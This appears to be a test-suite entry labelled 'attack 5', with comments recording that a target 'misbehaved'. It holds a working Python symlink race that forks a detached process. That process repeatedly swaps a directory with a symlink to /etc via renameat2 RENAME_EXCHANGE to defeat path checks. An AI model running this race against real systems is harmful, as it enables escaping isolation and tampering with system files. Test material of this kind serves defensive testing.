# attack 5
# outcome: passed misbehaved
# says: symlink|^$
# levels: isolated
# The parent is a folder and a link to one of the machine's in turn, never missing.
import ctypes, os, time
os.mkdir("mine"); open("mine/answer", "w").write("42\n")
os.rmdir("data"); os.rename("mine", "data"); os.symlink("/etc", "other")
libc, exchange = ctypes.CDLL(None), 2
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 20
    while time.monotonic() < end:
        libc.renameat2(-100, b"data", -100, b"other", exchange)
    os._exit(0)
time.sleep(0.05)
